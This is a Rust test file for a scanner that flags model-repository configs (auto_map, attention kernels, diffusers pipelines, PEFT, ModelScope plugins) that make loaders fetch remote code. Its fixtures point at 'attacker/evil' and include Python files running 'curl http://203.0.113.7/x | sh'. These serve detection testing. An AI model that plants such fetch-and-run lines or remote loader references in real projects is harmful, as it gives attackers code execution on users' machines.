//! Configs that make a loader fetch or import code, at any depth (issue 39): one test per config
//! class, each asserting the rule, the action, the exit code and that the evidence names the
//! field, its JSON path and what the loader would fetch; and the benign twins that must stay
//! quiet. Included from integration.rs.

use crate::support::*;
use serde_json::Value;

const CARD: &str = "---\nlicense: mit\n---\n";

/// The one finding of `rule` on `path` whose evidence `json_path` is `at`.
fn at<'a>(r: &'a Value, rule: &str, path: &str, json_path: &str) -> &'a Value {
    findings(r, rule)
        .into_iter()
        .find(|f| f["path"] == path && f["evidence"]["json_path"] == json_path)
        .unwrap_or_else(|| panic!("no {rule} on {path} at {json_path}: {r:#}"))
}

/// A denied CFG001 whose evidence names the field, the path and what is fetched from `source`,
/// and whose message says how to vouch for it.
fn assert_fetch_denied(f: &Value, field: &str, source: &str) {
    assert_eq!(f["action"], "deny", "{f:#}");
    assert_eq!(f["evidence"]["field"], field, "{f:#}");
    assert_eq!(f["evidence"]["source"], source, "{f:#}");
    assert!(
        f["evidence"]["fetches"]
            .as_str()
            .is_some_and(|s| !s.is_empty())
    );
    let message = f["message"].as_str().unwrap_or_default();
    assert!(
        message.contains(f["evidence"]["json_path"].as_str().unwrap_or("?")),
        "{message}"
    );
    assert!(message.contains("policy baseline"), "{message}");
}

#[test]
fn attention_kernel_from_the_hub_is_denied_cve_2026_4372() {
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "config.json",
        r#"{"model_type": "llama", "attn_implementation": "sdpa",
            "_attn_implementation_internal": "attacker/evil",
            "text_config": {"attn_implementation": "kernels-community/flash-attn"}}"#,
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1, "{r:#}");
    let f = at(&r, "CFG001", "config.json", "_attn_implementation_internal");
    assert_fetch_denied(f, "_attn_implementation_internal", "attacker/evil");
    assert_eq!(f["evidence"]["references"][0], "CVE-2026-4372");
    assert_eq!(f["severity"], "critical");
    let f = at(
        &r,
        "CFG001",
        "config.json",
        "text_config.attn_implementation",
    );
    assert_fetch_denied(f, "attn_implementation", "kernels-community/flash-attn");
}

#[test]
fn ordinary_attention_values_and_library_components_never_deny() {
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file(
            "config.json",
            r#"{"model_type": "llava", "attn_implementation": "sdpa",
                "_attn_implementation": "flash_attention_2",
                "text_config": {"_attn_implementation_internal": "eager", "_name_or_path": "meta-llama/Llama-2-7b-hf"},
                "vision_config": {"attn_implementation": "flex_attention"},
                "pretrained_cfg": {"hf_hub_id": "timm/resnet50.a1_in1k"}}"#,
        )
        .file(
            "model_index.json",
            r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
                "unet": ["diffusers", "UNet2DConditionModel"],
                "text_encoder": ["transformers", "CLIPTextModel"],
                "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
                "image_encoder": [null, null]}"#,
        )
        .file(
            "st/modules.json",
            r#"[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
                {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]"#,
        )
        .file(
            "lora/adapter_config.json",
            r#"{"base_model_name_or_path": "meta-llama/Llama-2-7b-hf", "peft_type": "LORA",
                "auto_mapping": {"base_model_class": "LlamaForCausalLM",
                                 "parent_library": "transformers.models.llama.modeling_llama"}}"#,
        )
        .file(
            "ms/configuration.json",
            r#"{"framework": "pytorch", "task": "text-generation", "allow_remote": false}"#,
        );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 0, "{r:#}");
    for rule in ["CFG001", "CFG003", "SRC001"] {
        assert!(findings(&r, rule).is_empty(), "{rule}: {r:#}");
    }
}

#[test]
fn config_trust_for_another_repository_is_denied_cve_2026_5241() {
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "config.json",
        r#"{"model_type": "lightglue", "trust_remote_code": true,
            "keypoint_detector_config": {"model_type": "evil_detector", "_name_or_path": "attacker/evil"}}"#,
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1, "{r:#}");
    let f = at(
        &r,
        "CFG001",
        "config.json",
        "keypoint_detector_config._name_or_path",
    );
    assert_fetch_denied(f, "_name_or_path", "attacker/evil");
    assert_eq!(f["evidence"]["trust_remote_code"], "trust_remote_code");
    assert_eq!(f["evidence"]["references"][0], "CVE-2026-5241");
}

#[test]
fn auto_map_in_a_sub_config_is_found_remote_denied_local_judged_as_model_code() {
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file(
            "config.json",
            r#"{"model_type": "llava", "trust_remote_code": true,
                "text_config": {"auto_map": {"AutoModelForCausalLM": "attacker/evil--modeling_evil.EvilForCausalLM"}},
                "vision_config": {"auto_map": {"AutoModel": "modeling_vision.VisionModel"}}}"#,
        )
        .file(
            "modeling_vision.py",
            "import subprocess\n\nclass VisionModel:\n    pass\n\nsubprocess.run(['sh', '-c', 'curl http://203.0.113.7/x | sh'])\n",
        );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1, "{r:#}");
    let f = at(
        &r,
        "CFG001",
        "config.json",
        "text_config.auto_map.AutoModelForCausalLM",
    );
    assert_fetch_denied(f, "auto_map", "attacker/evil");
    assert!(
        f["evidence"]["fetches"]
            .as_str()
            .unwrap_or_default()
            .contains("modeling_evil.py")
    );
    let f = at(
        &r,
        "SRC001",
        "config.json",
        "vision_config.auto_map.AutoModel",
    );
    assert_eq!(f["evidence"]["module_file"], "modeling_vision.py");
    assert_eq!(f["action"], "warn");
    assert!(
        findings(&r, "SRC006")
            .iter()
            .any(|f| f["path"] == "modeling_vision.py" && f["action"] == "deny"),
        "{r:#}"
    );
}

#[test]
fn tokenizer_config_auto_map_from_another_repository_is_denied() {
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file("config.json", r#"{"model_type": "llama"}"#)
        .file(
            "tokenizer_config.json",
            r#"{"auto_map": {"AutoTokenizer": ["attacker/evil--tokenization_evil.EvilTokenizer", null]}}"#,
        );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1, "{r:#}");
    let f = at(
        &r,
        "CFG001",
        "tokenizer_config.json",
        "auto_map.AutoTokenizer[0]",
    );
    assert_fetch_denied(f, "auto_map", "attacker/evil");
    // Not reported twice: no SRC001 for the same entry.
    assert!(findings(&r, "SRC001").is_empty(), "{r:#}");
}

#[test]
fn diffusers_custom_pipeline_and_components() {
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file(
            "model_index.json",
            r#"{"_class_name": ["attacker/evil", "EvilPipeline"],
                "unet": ["diffusers", "UNet2DConditionModel"],
                "prior": ["my_prior", "MyPrior"],
                "extra": ["acme_lib", "Thing"]}"#,
        )
        .file(
            "prior/my_prior.py",
            "import os\n\nclass MyPrior:\n    pass\n\nos.system('curl http://203.0.113.7/x | sh')\n",
        );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1, "{r:#}");
    let f = at(&r, "CFG001", "model_index.json", "_class_name[0]");
    assert_fetch_denied(f, "_class_name", "attacker/evil");
    assert_eq!(
        f["evidence"]["fetches"],
        "`pipeline.py` (class `EvilPipeline`)"
    );
    let f = at(&r, "SRC001", "model_index.json", "prior[0]");
    assert_eq!(f["evidence"]["module_file"], "prior/my_prior.py");
    // The component module ships here, so it is model code: SRC006 judges it.
    assert!(
        findings(&r, "SRC006")
            .iter()
            .any(|f| f["path"] == "prior/my_prior.py" && f["action"] == "deny"),
        "{r:#}"
    );
    // A library that is neither diffusers' nor shipped is imported by name: review.
    let f = at(&r, "CFG003", "model_index.json", "extra[0]");
    assert_eq!(f["evidence"]["target"], "acme_lib.Thing");
    assert_eq!(f["action"], "warn");
}

#[test]
fn sentence_transformers_module_types() {
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file(
            "modules.json",
            r#"[{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"},
                {"idx": 1, "name": "1", "path": "1", "type": "attacker/evil--evil_st.Pooling"},
                {"idx": 2, "name": "2", "path": "2", "type": "sentence_transformers.models.Normalize"}]"#,
        )
        .file("custom_st.py", "class Transformer:\n    pass\n");
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1, "{r:#}");
    let f = at(&r, "CFG001", "modules.json", "[1].type");
    assert_fetch_denied(f, "modules[].type", "attacker/evil");
    let f = at(&r, "SRC001", "modules.json", "[0].type");
    assert_eq!(f["evidence"]["module_file"], "custom_st.py");
    assert_eq!(findings(&r, "CFG001").len(), 1, "{r:#}");
}

#[test]
fn peft_auto_mapping_to_remote_code_is_denied() {
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "adapter_config.json",
        r#"{"base_model_name_or_path": "THUDM/chatglm-6b", "peft_type": "LORA", "task_type": null,
            "auto_mapping": {"base_model_class": "ChatGLMForConditionalGeneration",
                             "parent_library": "transformers_modules.THUDM.chatglm-6b.abc123.modeling_chatglm"}}"#,
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1, "{r:#}");
    let f = at(
        &r,
        "CFG001",
        "adapter_config.json",
        "auto_mapping.parent_library",
    );
    assert_fetch_denied(f, "auto_mapping.parent_library", "THUDM/chatglm-6b");
}

#[test]
fn modelscope_plugins_are_denied_and_allow_remote_names_the_modules() {
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file(
            "configuration.json",
            r#"{"framework": "pytorch", "task": "text-generation",
                "plugins": ["evil-plugin==1.0"], "allow_remote": true}"#,
        )
        .file("my_model.py", "class MyModel:\n    pass\n");
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1, "{r:#}");
    let f = at(&r, "CFG001", "configuration.json", "plugins[0]");
    assert_eq!(f["action"], "deny");
    assert_eq!(f["evidence"]["field"], "plugins");
    assert_eq!(f["evidence"]["source"], "evil-plugin==1.0");
    assert!(
        f["message"]
            .as_str()
            .unwrap_or_default()
            .contains("package index")
    );
    let f = at(&r, "SRC001", "configuration.json", "allow_remote");
    assert_eq!(f["evidence"]["modules"][0], "my_model.py");
}

#[test]
fn a_remote_reference_can_be_vouched_for_by_a_digest_bound_baseline() {
    let repo = Repo::new();
    repo.file("README.md", CARD).file(
        "config.json",
        r#"{"model_type": "x", "attn_implementation": "kernels-community/flash-attn"}"#,
    );
    let out = run(&[
        "policy",
        "baseline",
        repo.path().to_str().unwrap_or_default(),
    ]);
    assert!(out.status.success(), "{out:?}");
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 0, "{r:#}");
    let f = at(&r, "CFG001", "config.json", "attn_implementation");
    assert_eq!(f["action"], "allow");
}

#[test]
fn a_loader_config_nested_past_the_depth_limit_is_not_passed_silently() {
    let mut doc = String::from(r#"{"auto_map": {"AutoModel": "attacker/evil--m.C"}}"#);
    for _ in 0..12 {
        doc = format!(r#"{{"x": {doc}}}"#);
    }
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file("config.json", &doc)
        .file("modelgate.toml", "version = 1\n[limits]\njson_depth = 8\n");
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1, "{r:#}");
    assert!(
        findings(&r, "SCAN004")
            .iter()
            .any(|f| f["path"] == "config.json" && f["evidence"]["limit"] == "json_depth"),
        "{r:#}"
    );
}

#[test]
fn padding_a_config_past_the_loader_fields_limit_is_not_passed_silently() {
    let repo = Repo::new();
    repo.file("README.md", CARD)
        .file(
            "config.json",
            r#"{"a": {"auto_map": {"A": "m.A", "B": "m.B"}},
                "z": {"auto_map": {"AutoModel": "attacker/evil--m.C"}}}"#,
        )
        .file(
            "modelgate.toml",
            "version = 1\n[limits]\nloader_fields = 2\n",
        );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(code, 1, "{r:#}");
    assert!(
        findings(&r, "SCAN004")
            .iter()
            .any(|f| f["path"] == "config.json" && f["evidence"]["limit"] == "loader_fields"),
        "{r:#}"
    );
}
